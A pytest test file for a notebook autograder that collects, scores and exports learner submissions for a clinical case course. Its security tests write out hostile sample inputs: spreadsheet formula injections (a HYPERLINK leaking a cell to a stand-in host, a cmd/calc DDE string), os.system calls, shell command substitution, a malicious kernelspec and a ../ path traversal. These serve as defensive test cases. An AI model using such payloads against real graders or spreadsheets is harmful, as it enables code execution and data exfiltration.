"""collect -> autograde -> export: scores recomputed from the answer key, written to nbgrader's
gradebook, exported as a CSV that opens safely in Excel; and nothing from a submission ever runs."""

from __future__ import annotations

import csv
import io
import os
import shutil
import sqlite3
from pathlib import Path

import pytest

from grader.cli import main
from grader.content.loader import load_course
from grader.gradebook.db import open_gradebook
from grader.gradebook.submission import student_id
from helpers.gradebook import (
    DOCTOR,
    FIXTURE_COURSE,
    MIXED,
    NURSE,
    PHYSIO,
    RIGHT,
    cell,
    cell_scores,
    db_rows,
    fixture_case,
    make_submission,
    make_zip,
    released_course_dir,
    to_bytes,
    write_notebook,
)

CASE = fixture_case()
NURSE_ID, DOCTOR_ID, PHYSIO_ID = (student_id(x["email"]) for x in (NURSE, DOCTOR, PHYSIO))


def run(*args: str) -> int:
    return main([*args, "--root", str(FIXTURE_COURSE)])


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, so Excel reads it as UTF-8"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


@pytest.fixture
def gb(tmp_path) -> Path:
    return released_course_dir(tmp_path / "gb")


def collect_three(tmp_path: Path, gb: Path) -> None:
    inbox = tmp_path / "in"
    write_notebook(inbox / "nurse.ipynb", make_submission(CASE, RIGHT, NURSE))
    write_notebook(
        inbox / "doctor.ipynb", make_submission(CASE, MIXED, DOCTOR, submitted_at="2026-12-02T08:15:00+01:00")
    )
    write_notebook(inbox / "physio.ipynb", make_submission(CASE, {}, PHYSIO))
    assert run("collect", str(inbox), "--course-dir", str(gb)) == 0


EXPECTED = {
    # every answer right; the dose question is not in a nurse's set
    NURSE_ID: dict(
        profession="nurse",
        question_set="all except doctor/pharmacist questions",
        score="3",
        max="3",
        percent="100.0",
        passed="yes",
        needs_review="yes",
        cpd_minutes="15",
    ),
    # single 0 + dose 1 + consultation 0.5 + free text 0.5 (one rubric criterion of two)
    DOCTOR_ID: dict(
        profession="doctor",
        question_set="all",
        score="2",
        max="4",
        percent="50.0",
        passed="no",
        needs_review="yes",
        cpd_minutes="0",
    ),
    # nothing answered
    PHYSIO_ID: dict(
        profession="physiotherapist",
        question_set="all except doctor/pharmacist questions",
        score="0",
        max="3",
        percent="0.0",
        passed="no",
        needs_review="no",
        cpd_minutes="0",
    ),
}


def test_round_trip(tmp_path, gb, capsys):
    collect_three(tmp_path, gb)
    assert run("autograde", "--course-dir", str(gb)) == 0
    err = capsys.readouterr().err
    assert "3/3 submissions graded" in err and "graded 3 submission(s)" in err
    out = tmp_path / "grades.csv"
    assert run("export", "--course-dir", str(gb), "--out", str(out)) == 0
    rows = {r["learner_id"]: r for r in read_csv(out)}
    assert set(rows) == set(EXPECTED)
    for learner, expected in EXPECTED.items():
        assert {k: rows[learner][k] for k in expected} == expected, learner
    doctor = rows[DOCTOR_ID]
    assert (doctor["name"], doctor["email"], doctor["registration"], doctor["case"]) == (
        "Dana Doctor",
        "dana.doctor@nhs.net",
        "GMC 7654321",
        "example-case",
    )
    assert doctor["submitted_at"] == "2026-12-02T07:15:00+00:00"
    assert list(read_csv(out)[0]) == [
        "learner_id",
        "name",
        "email",
        "registration",
        "profession",
        "case",
        "question_set",
        "score",
        "max",
        "percent",
        "passed",
        "needs_review",
        "submitted_at",
        "cpd_minutes",
    ]


def test_gradebook_rows(tmp_path, gb):
    collect_three(tmp_path, gb)
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    scores = cell_scores(gb / "gradebook.db")
    assert {c: s for (who, c), s in scores.items() if who == DOCTOR_ID} == {
        "test-case-single": (0.0, 1.0),
        "test-case-dose": (1.0, 1.0),
        "test-case-talk": (0.5, 1.0),
        "test-case-reflect": (0.5, 1.0),
    }
    with open_gradebook(f"sqlite:///{gb}/gradebook.db") as book:
        student = book.find_student(DOCTOR_ID)
        assert (student.first_name, student.last_name, student.email) == ("Dana", "Doctor", "dana.doctor@nhs.net")
        submission = book.find_submission("example-case", DOCTOR_ID)
        assert submission.timestamp.isoformat() == "2026-12-02T07:15:00"
        reflect = book.find_comment("answer-case-reflect", "example-case", "example-case", DOCTOR_ID)
        assert reflect.auto_comment == "provisional rubric score: needs review"
        assert book.find_grade("test-case-reflect", "example-case", "example-case", DOCTOR_ID).needs_manual_grade
        assert not book.find_grade("test-case-single", "example-case", "example-case", DOCTOR_ID).needs_manual_grade
        unanswered = book.find_comment("answer-case-single", "example-case", "example-case", PHYSIO_ID)
        assert unanswered.auto_comment == "No response."


def test_autograde_twice_gives_the_same_gradebook(tmp_path, gb):
    collect_three(tmp_path, gb)
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    first = db_rows(gb / "gradebook.db")
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    assert db_rows(gb / "gradebook.db") == first
    assert len(first["student"]) == 3 and len(first["submitted_assignment"]) == 3 and len(first["grade"]) == 12


def test_autograde_without_release_creates_the_assignment(tmp_path, capsys):
    gb = tmp_path / "gb"
    collect_three(tmp_path, gb)
    assert not (gb / "gradebook.db").exists()
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    released = released_course_dir(tmp_path / "released")
    collect_three(tmp_path, released)
    assert run("autograde", "--course-dir", str(released), "--quiet") == 0
    assert cell_scores(gb / "gradebook.db") == cell_scores(released / "gradebook.db")

    def structure(db):
        with sqlite3.connect(db) as conn:
            return sorted(
                conn.execute(
                    "select bc.name, bc.type, sc.source, sc.checksum, sc.locked from base_cell bc "
                    "left join source_cell sc on sc.name = bc.name order by bc.name, bc.type"
                ).fetchall()
            )

    assert structure(gb / "gradebook.db") == structure(released / "gradebook.db")


def test_any_sqlalchemy_url(tmp_path, gb):
    collect_three(tmp_path, gb)
    url = f"sqlite:///{tmp_path}/other.db"
    assert run("autograde", "--course-dir", str(gb), "--db", url, "--quiet") == 0
    assert len(cell_scores(tmp_path / "other.db")) == 12
    assert run("export", "--course-dir", str(gb), "--db", url, "--out", str(tmp_path / "g.csv")) == 0
    assert len(read_csv(tmp_path / "g.csv")) == 3


def test_a_reviewers_score_counts_and_survives_regrading(tmp_path, gb):
    collect_three(tmp_path, gb)
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    with open_gradebook(f"sqlite:///{gb}/gradebook.db") as book:  # as formgrader does
        grade = book.find_grade("test-case-reflect", "example-case", "example-case", DOCTOR_ID)
        grade.manual_score = 1.0
        grade.needs_manual_grade = False
        book.db.commit()
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    out = tmp_path / "grades.csv"
    assert run("export", "--course-dir", str(gb), "--out", str(out)) == 0
    doctor = next(r for r in read_csv(out) if r["learner_id"] == DOCTOR_ID)
    assert (doctor["score"], doctor["needs_review"]) == ("2.5", "no")
    with open_gradebook(f"sqlite:///{gb}/gradebook.db") as book:
        grade = book.find_grade("test-case-reflect", "example-case", "example-case", DOCTOR_ID)
        assert (grade.manual_score, grade.auto_score, grade.needs_manual_grade) == (1.0, 0.5, False)


def test_a_newer_submission_is_graded_and_a_reviewed_score_flagged(tmp_path, gb):
    collect_three(tmp_path, gb)
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    with open_gradebook(f"sqlite:///{gb}/gradebook.db") as book:
        grade = book.find_grade("test-case-single", "example-case", "example-case", DOCTOR_ID)
        grade.manual_score, grade.needs_manual_grade = 0.0, False
        book.db.commit()
    newer = write_notebook(
        tmp_path / "in2" / "doctor.ipynb", make_submission(CASE, RIGHT, DOCTOR, submitted_at="2026-12-03T10:00:00Z")
    )
    assert run("collect", str(newer), "--course-dir", str(gb)) == 0
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    with open_gradebook(f"sqlite:///{gb}/gradebook.db") as book:
        grade = book.find_grade("test-case-single", "example-case", "example-case", DOCTOR_ID)
        assert (grade.auto_score, grade.manual_score, grade.needs_manual_grade) == (1.0, 0.0, True)
        assert len(book.students) == 3


def test_export_neutralises_spreadsheet_formulas(tmp_path, gb):
    attacker = {
        "name": '=HYPERLINK("http://x.example/?"&A1,"click")',
        "email": "=cmd@x.example",
        "registration": "+44 1 cmd|' /C calc'!A0",
        "profession": "other",
    }
    others = [
        {"name": "-2+3", "email": "minus@x.example", "registration": "\t=1+1", "profession": "nurse"},
        {"name": "Zoë O'Brien, RN", "email": "zoe@x.example", "registration": "", "profession": "nurse"},
    ]
    inbox = tmp_path / "in"
    for i, learner in enumerate([attacker, *others]):
        write_notebook(inbox / f"{i}.ipynb", make_submission(CASE, RIGHT, learner))
    assert run("collect", str(inbox), "--course-dir", str(gb)) == 0
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    out = tmp_path / "grades.csv"
    assert run("export", "--course-dir", str(gb), "--out", str(out)) == 0
    rows = read_csv(out)
    cells = [value for row in rows for value in row.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_email = {r["email"]: r for r in rows}
    assert by_email["'=cmd@x.example"]["name"] == "'" + attacker["name"]
    assert by_email["'=cmd@x.example"]["registration"] == "'" + attacker["registration"]
    assert by_email["minus@x.example"]["name"] == "'-2+3"
    assert by_email["zoe@x.example"]["name"] == "Zoë O'Brien, RN"


def test_export_to_stdout_and_ungraded_submissions(tmp_path, gb, capsys):
    collect_three(tmp_path, gb)
    capsys.readouterr()
    assert run("export", "--course-dir", str(gb), "--out", "-") == 1  # nothing graded yet
    captured = capsys.readouterr()
    assert (
        captured.out == "\ufefflearner_id,name,email,registration,profession,case,question_set,"
        "score,max,percent,passed,needs_review,submitted_at,cpd_minutes\r\n"
    )
    assert captured.err.count("not graded yet (run grader autograde first)") == 3


def test_autograde_rechecks_what_is_in_submitted(tmp_path, gb, capsys):
    collect_three(tmp_path, gb)
    # a file put into submitted/ by hand, not through collect
    sneaky = make_submission(CASE, RIGHT, PHYSIO)
    cell(sneaky, "answer-case-single")["source"] = "answer_case_single = __import__('os').getcwd()\n"
    write_notebook(gb / "submitted" / PHYSIO_ID / "example-case" / "example-case.ipynb", sneaky)
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 1
    out = capsys.readouterr().out
    assert "skipped:" in out and "answer is code, not a plain value" in out


# --- the canary: nothing in a submission ever runs -----------------------------------------


def canary_submissions(canary: Path) -> dict[str, bytes]:
    shell = f"touch {canary}"
    py = f"__import__('os').system({shell!r})"
    files: dict[str, bytes] = {}

    def add(name, notebook):
        files[name] = to_bytes(notebook)

    nb = make_submission(CASE, RIGHT, NURSE)
    cell(nb, "answer-case-single")["source"] = f"answer_case_single = {py}\n"
    add("answer-import.ipynb", nb)
    nb = make_submission(CASE, RIGHT, NURSE)
    cell(nb, "answer-case-single")["source"] = f"answer_case_single = 'a'\n{py}\n"
    add("answer-second-statement.ipynb", nb)
    nb = make_submission(CASE, RIGHT, NURSE)
    cell(nb, "answer-case-talk")["source"] = f"answer_case_talk = (lambda: {py})()\n"
    add("answer-lambda.ipynb", nb)
    nb = make_submission(CASE, RIGHT, NURSE)
    cell(nb, "answer-case-single")["source"] = f"answer_case_single = [{py} for _ in 'x']\n"
    add("answer-comprehension.ipynb", nb)
    nb = make_submission(CASE, RIGHT, NURSE)
    cell(nb, "test-case-single")["source"] = f"{py}\n1.0\n"
    add("test-cell.ipynb", nb)
    nb = make_submission(CASE, RIGHT, NURSE)
    nb["cells"].insert(
        1, {"cell_type": "code", "metadata": {}, "source": py, "outputs": [], "execution_count": None, "id": "x"}
    )
    add("added-cell.ipynb", nb)
    nb = make_submission(CASE, RIGHT, NURSE)
    intro = cell(nb, "intro")
    intro.update(cell_type="code", source=py, outputs=[], execution_count=None)
    add("retyped-cell.ipynb", nb)
    # accepted: nothing here starts a kernel (and nbgrader's own autograde puts its kernelspec back)
    nb = make_submission(CASE, RIGHT, NURSE)
    nb["metadata"]["kernelspec"] = {
        "name": "evil",
        "display_name": "x",
        "language": "python",
        "argv": ["sh", "-c", shell],
    }
    add("kernelspec.ipynb", nb)
    # accepted: plain values that merely look like code, in answers and learner details
    nb = make_submission(
        CASE,
        {**RIGHT, "case-reflect": py, "case-single": f"$({shell})"},
        {**PHYSIO, "name": f"$({shell})", "registration": "`touch CANARY`"},
    )
    add("looks-like-code.ipynb", nb)
    return files


def test_canary_nothing_from_a_submission_runs(tmp_path, gb, monkeypatch):
    canary = tmp_path / "CANARY"
    monkeypatch.chdir(tmp_path)
    files = canary_submissions(canary)
    inbox = tmp_path / "in"
    for name, data in files.items():
        (inbox / name).parent.mkdir(exist_ok=True)
        (inbox / name).write_bytes(data)
    make_zip(
        tmp_path / "lms.zip",
        {f"$(touch {canary}).ipynb": files["answer-import.ipynb"], "../" + "x.ipynb": files["test-cell.ipynb"]},
    )
    main(["collect", str(inbox), str(tmp_path / "lms.zip"), "--root", str(FIXTURE_COURSE), "--course-dir", str(gb)])
    assert not canary.exists()
    accepted = {p.parent.parent.name for p in (gb / "submitted").rglob("*.ipynb")}
    assert accepted == {NURSE_ID, PHYSIO_ID}, "only the submissions with plain values are collected"
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    assert run("export", "--course-dir", str(gb), "--out", str(tmp_path / "grades.csv")) == 0
    assert not canary.exists()
    assert not any(p.name == "CANARY" for p in tmp_path.rglob("*")) and not os.path.exists("CANARY")
    rows = {r["learner_id"]: r for r in read_csv(tmp_path / "grades.csv")}
    assert rows[PHYSIO_ID]["name"] == f"$(touch {canary})" and rows[PHYSIO_ID]["registration"] == "`touch CANARY`"
    assert rows[PHYSIO_ID]["score"] == "1"  # only the consultation is right; the code-like texts are just wrong answers
    assert rows[NURSE_ID]["score"] == "3"
    assert len(list((gb / "quarantine").glob("*.reason.txt"))) == len(files) - 2 + 2


def test_one_learner_in_two_cases_is_one_student(tmp_path):
    course = tmp_path / "course"
    shutil.copytree(FIXTURE_COURSE, course)
    second = course / "case_studies" / "second-case"
    second.mkdir()
    text = (course / "case_studies" / "example-case" / "case.yml").read_text()
    text = text.replace("id: example-case", "id: second-case").replace("title: An example case", "title: A second case")
    (second / "case.yml").write_text(text.replace("id: case-", "id: two-"))  # item ids are unique across the course
    cases = {c.case.id: c.case for c in load_course(course).cases}
    assert set(cases) == {"example-case", "second-case"}
    inbox = tmp_path / "in"
    for case_id, case in cases.items():
        ids = (
            (lambda answers: answers)
            if case_id == "example-case"
            else (lambda answers: {k.replace("case-", "two-"): v for k, v in answers.items()})
        )
        write_notebook(inbox / f"{case_id}-nurse.ipynb", make_submission(case, ids(RIGHT), NURSE))
        write_notebook(inbox / f"{case_id}-doctor.ipynb", make_submission(case, ids(MIXED), DOCTOR))
    gb = tmp_path / "gb"
    assert main(["collect", str(inbox), "--root", str(course), "--course-dir", str(gb)]) == 0
    assert main(["autograde", "--root", str(course), "--course-dir", str(gb), "--quiet"]) == 0
    rows = db_rows(gb / "gradebook.db")
    assert len(rows["student"]) == 2 and len(rows["submitted_assignment"]) == 4 and len(rows["grade"]) == 16
    assert main(["autograde", "--root", str(course), "--course-dir", str(gb), "--quiet"]) == 0
    assert db_rows(gb / "gradebook.db") == rows
    out = tmp_path / "grades.csv"
    assert main(["export", "--root", str(course), "--course-dir", str(gb), "--out", str(out)]) == 0
    assert sorted((r["case"], r["learner_id"], r["score"]) for r in read_csv(out)) == [
        ("example-case", DOCTOR_ID, "2"),
        ("example-case", NURSE_ID, "3"),
        ("second-case", DOCTOR_ID, "2"),
        ("second-case", NURSE_ID, "3"),
    ]


def test_an_unreadable_timestamp_file_falls_back_to_submitted_at(tmp_path, gb):
    collect_three(tmp_path, gb)
    (gb / "submitted" / DOCTOR_ID / "example-case" / "timestamp.txt").write_text("not a time at all")
    assert run("autograde", "--course-dir", str(gb), "--quiet") == 0
    with open_gradebook(f"sqlite:///{gb}/gradebook.db") as book:
        assert book.find_submission("example-case", DOCTOR_ID).timestamp.isoformat() == "2026-12-02T07:15:00"


def test_a_database_password_is_not_printed(tmp_path, gb, capsys, monkeypatch):
    import grader.gradebook.autograde as autograde_module
    from grader.gradebook.autograde import Report

    monkeypatch.setattr(autograde_module, "autograde", lambda *a, **k: Report())
    assert run("autograde", "--course-dir", str(gb), "--db", "postgresql://grader:s3cret@db.example/gradebook") == 0
    err = capsys.readouterr().err
    assert "s3cret" not in err and "postgresql://grader:***@db.example/gradebook" in err


def test_changed_questions_after_grading_are_a_clear_error(tmp_path, capsys):
    course = tmp_path / "course"
    shutil.copytree(FIXTURE_COURSE, course)
    gb = tmp_path / "gb"
    collect_three(tmp_path, gb)
    assert main(["autograde", "--root", str(course), "--course-dir", str(gb), "--quiet"]) == 0
    case_file = course / "case_studies" / "example-case" / "case.yml"
    extra = (
        "      - id: case-extra\n        type: single\n        outcome: LO1\n        source: ng193\n        stem: One "
        "more?\n"
        "        options:\n          - {id: a, text: Yes, feedback: Right.}\n          - "
        "{id: b, text: No, feedback: Wrong.}\n        answer: a\n"
    )
    case_file.write_text(case_file.read_text().replace("facilitation:\n", extra + "facilitation:\n"))
    changed = load_course(course).case("example-case").case
    write_notebook(
        tmp_path / "in2" / "new.ipynb",
        make_submission(changed, {**RIGHT, "case-extra": "a"}, PHYSIO, submitted_at="2026-12-02T20:00:00Z"),
    )
    capsys.readouterr()
    assert main(["collect", str(tmp_path / "in2"), "--root", str(course), "--course-dir", str(gb)]) == 0
    assert main(["autograde", "--root", str(course), "--course-dir", str(gb), "--quiet"]) == 1
    out = capsys.readouterr().out
    assert out.count("questions differ from the gradebook's and it already has graded submissions") == 3, (
        "every submission of that case is skipped"
    )
